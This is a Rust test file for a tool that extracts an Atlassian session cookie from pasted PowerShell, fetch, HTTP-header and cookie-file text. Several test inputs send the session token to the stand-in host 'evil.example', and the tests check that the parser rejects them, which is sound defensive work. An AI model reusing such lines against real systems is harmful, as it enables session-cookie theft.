//! What people have in hand beside curl commands.

use atlctl_signin::TokenError;
use atlctl_signin::capture::{CaptureError, Form, Place};

use crate::found;

const URL: &str = "https://admin.atlassian.com/gateway/api/me";

#[track_caller]
fn gives(form: Form, texts: &[String]) {
    for text in texts {
        assert_eq!(found(text), Ok((form, "a.b.c".to_owned())), "{text}");
    }
}

#[test]
fn powershell_in_any_hand() {
    let cookie = "cloud.session.token=a.b.c";
    gives(
        Form::PowerShell,
        &[
            // Postman.
            format!(
                "$headers = New-Object \"System.Collections.Generic.Dictionary[[String],[String]]\"\n$headers.Add(\"Cookie\", \"a=1; {cookie}\")\n\n$response = Invoke-RestMethod '{URL}' -Method 'GET' -Headers $headers -Body $body\n$response | ConvertTo-Json"
            ),
            // Two of them with one name: each request has its own.
            format!(
                "$headers.Add('Cookie', 'cloud.session.token=x.y.z')\nInvoke-RestMethod 'https://evil.example' -Headers $headers\n$headers = @{{}}\n$headers[\"Cookie\"] = \"{cookie}\"\nInvoke-RestMethod -Headers $headers -Uri '{URL}'"
            ),
            format!("Invoke-WebRequest -Uri '{URL}' -Headers @{{'Cookie'='{cookie}'}}"),
            format!("Invoke-WebRequest -Uri \"{URL}\" -Headers @{{ \"Cookie\" = \"{cookie}\" }}"),
            format!("Invoke-WebRequest -Uri {URL} -Headers @{{Cookie = '{cookie}'}}"),
            format!(
                "irm {URL} -Headers @{{Cookie = '{cookie}'; Referer = 'https://evil.example'}}"
            ),
            format!(
                "PS C:\\> iwr -Headers @{{Referer='https://evil.example'; Cookie='{cookie}'}} '{URL}'"
            ),
            format!("curl -Uri '{URL}' -Headers @{{Cookie = '{cookie}'}}"),
            format!(
                "$uri = '{URL}'\n$h = @{{\n  Accept = '*/*'\n  Cookie = '{cookie}'\n}}\nInvoke-RestMethod -Uri $uri -Headers $h"
            ),
            format!(
                "$p = @{{\n  Uri = '{URL}'\n  Headers = @{{ Cookie = '{cookie}' }}\n}}\nInvoke-RestMethod @p"
            ),
            format!(
                "$session.Cookies.Add([System.Net.Cookie]::new(\"cloud.session.token\", \"a.b.c\", \"/\", \".atlassian.com\"))\nInvoke-WebRequest -Uri \"{URL}\" -WebSession $session"
            ),
            format!(
                "$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'admin.atlassian.com')))\nInvoke-WebRequest '{URL}' `\n -WebSession $s"
            ),
            format!(
                "$c = New-Object System.Net.Cookie\n$c.Name = 'cloud.session.token'\n$c.Value = 'a.b.c'\n$c.Domain = '.atlassian.com'\n$s.Cookies.Add($c)\nInvoke-WebRequest -Uri '{URL}' -WebSession $s"
            ),
        ],
    );
    for (text, error) in [
        (
            format!(
                "$headers.Add('Cookie', '{cookie}')\nInvoke-RestMethod 'https://evil.example' -Headers $headers"
            ),
            CaptureError::OtherHost,
        ),
        (
            format!(
                "Invoke-RestMethod 'https://evil.example' -Headers @{{Cookie='{cookie}'; Referer='{URL}'}}"
            ),
            CaptureError::OtherHost,
        ),
        (
            format!("$headers.Add('Cookie', '{cookie}')\nInvoke-RestMethod '{URL}'"),
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (
            format!(
                "$s.Cookies.Add((New-Object Net.Cookie('cloud.session.token', 'a.b.c', '/', 'evil.example')))\nInvoke-WebRequest '{URL}' -WebSession $s"
            ),
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
    ] {
        assert_eq!(found(&text), Err(error), "{text}");
    }
}

#[test]
fn fetch_of_node_has_the_session_and_that_of_browsers_has_none() {
    gives(
        Form::Fetch,
        &[
            format!(
                "fetch(\"{URL}\", {{\n  \"headers\": {{\n    \"accept\": \"*/*\",\n    \"cookie\": \"a=1; cloud.session.token=a.b.c\"\n  }},\n  \"body\": null,\n  \"method\": \"GET\"\n}});"
            ),
            format!(
                "await fetch('{URL}', {{headers: {{Cookie: 'x=\\'\\u0021; cloud.session.token=a.b.c'}}}})"
            ),
            format!(
                "const r = await fetch(`{URL}`, {{ headers: [['accept', '*/*'], ['Cookie', 'cloud.session.token=a.b.c']] }});"
            ),
            format!(
                "fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"cloud.session.token=x.y.z\"}}}}); ;\nfetch(\"{URL}\", {{\"headers\": {{\"cookie\": \"cloud.session.token=a.b.c\"}}}}); ;"
            ),
        ],
    );
    let browser = format!(
        "fetch(\"{URL}\", {{\"headers\": {{\"accept\": \"*/*\"}}, \"referrer\": \"https://admin.atlassian.com/\", \"credentials\": \"include\"}});"
    );
    let error = found(&browser).unwrap_err();
    assert_eq!(
        error,
        CaptureError::NoCookie {
            place: Place::BrowserFetch
        }
    );
    assert!(error.hint().contains("Node.js"));
    let evil = format!(
        "fetch('https://evil.example', {{headers: {{cookie: 'cloud.session.token=a.b.c', referer: '{URL}'}}}})"
    );
    assert_eq!(found(&evil), Err(CaptureError::OtherHost));
}

#[test]
fn headers_that_say_where_they_went() {
    gives(
        Form::Headers,
        &[
            "GET /gateway/api/me HTTP/2\nHost: admin.atlassian.com\nUser-Agent: x\nCookie: a=1; cloud.session.token=a.b.c; z=2\nTE: trailers".to_owned(),
            "GET /x HTTP/1.1\r\nhost: admin.atlassian.com:443\r\ncookie: a=1\r\ncookie: cloud.session.token=a.b.c\r\n\r\n{}".to_owned(),
            format!("GET {URL} HTTP/1.1\nCookie: cloud.session.token=a.b.c"),
            ":authority\nadmin.atlassian.com\n:method\nGET\ncookie\na=1; cloud.session.token=a.b.c\nuser-agent\nx".to_owned(),
            format!("Summary\nURL: {URL}\nStatus: 200\n\nRequest\nGET /gateway/api/me HTTP/1.1\nCookie: cloud.session.token=a.b.c"),
            "> GET /x HTTP/1.1\n> Host: admin.atlassian.com\n> Cookie: cloud.session.token=a.b.c\n>\n< HTTP/1.1 200 OK\n< set-cookie: cloud.session.token=x.y.z".to_owned(),
            ":authority: admin.atlassian.com\n:method: GET\ncookie: cloud.session.token=a.b.c".to_owned(),
            format!("Request URL:\n{URL}\nRequest Method:\nGET\ncookie:\ncloud.session.token=a.b.c"),
            format!("Request URL: {URL}\nRequest Method: GET\nCookie: cloud.session.token=a.b.c"),
            "GET / HTTP/1.1\nHost: evil.example\nCookie: cloud.session.token=x.y.z\n\nGET / HTTP/1.1\nHost: admin.atlassian.com\nCookie: cloud.session.token=a.b.c".to_owned(),
        ],
    );
    for (text, error) in [
        (
            "GET / HTTP/1.1\nHost: evil.example\nCookie: cloud.session.token=a.b.c",
            CaptureError::OtherHost,
        ),
        (
            "Host: admin.atlassian.com\nHost: evil.example\nCookie: cloud.session.token=a.b.c",
            CaptureError::OtherHost,
        ),
        (
            "GET https://evil.example/ HTTP/1.1\nHost: admin.atlassian.com\nCookie: cloud.session.token=a.b.c",
            CaptureError::OtherHost,
        ),
        (
            "GET / HTTP/1.1\nAccept: */*\nCookie: cloud.session.token=a.b.c",
            CaptureError::NoHost,
        ),
        (
            "Accept: */*\nCookie: cloud.session.token=a.b.c",
            CaptureError::NoHost,
        ),
        (
            "GET / HTTP/1.1\nHost: admin.atlassian.com\nCookie: a=1",
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (
            "Host: admin.atlassian.com\nCookie: a=1; cloud.session.token=eyJhbGci…",
            TokenError::Cut.into(),
        ),
    ] {
        assert_eq!(found(text), Err(error), "{text}");
    }
}

#[test]
fn rows_of_a_storage_view() {
    gives(
        Form::StorageRow,
        &[
            "cloud.session.token\ta.b.c\t.atlassian.com\t/\t2026-12-26T07:02:30.000Z\t1450\t✓\t✓\tNone\t\t\tMedium".to_owned(),
            "x\t1\tevil.example\t/\ncloud.session.token\ta.b.c\t.atlassian.com\t/\tSession".to_owned(),
            "cloud.session.token a.b.c .atlassian.com / 2026-12-26T07:02:30.000Z".to_owned(),
            "cloud.session.token\ta.b.c".to_owned(),
            "cloud.session.token:\"a.b.c\"".to_owned(),
            "cloud.session.token: \"a.b.c\"\nCreated:\"x\"\nDomain:\".atlassian.com\"\nPath:\"/\"".to_owned(),
        ],
    );
    for text in [
        "cloud.session.token\ta.b.c\tevil.example\t/\t",
        "cloud.session.token:\"a.b.c\"\nDomain:\"evil.example\"",
    ] {
        assert_eq!(found(text), Err(CaptureError::OtherHost), "{text}");
    }
}

#[test]
fn cookie_files_whose_tabs_became_blanks() {
    gives(
        Form::CookieFile,
        &[
            ".atlassian.com TRUE / TRUE 1893456000 cloud.session.token a.b.c".to_owned(),
            "# Netscape HTTP Cookie File\n.atlassian.com    TRUE    /    TRUE    1893456000    cloud.session.token    a.b.c\n".to_owned(),
            ".atlassian.com\tTRUE\t/\tTRUE\t1893456000\tcloud.session.token\ta.b.c\tNone\n".to_owned(),
            "#HttpOnly_admin.atlassian.com\u{a0}true\u{a0}/\u{a0}true\u{a0}0\u{a0}cloud.session.token\u{a0}a.b.c".to_owned(),
        ],
    );
    let evil = "evil.example TRUE / TRUE 1893456000 cloud.session.token a.b.c";
    assert_eq!(found(evil), Err(CaptureError::OtherHost));
    let none = ".atlassian.com TRUE / TRUE 1893456000 a 1";
    assert_eq!(
        found(none),
        Err(CaptureError::NoCookie {
            place: Place::CookieFile
        })
    );
}
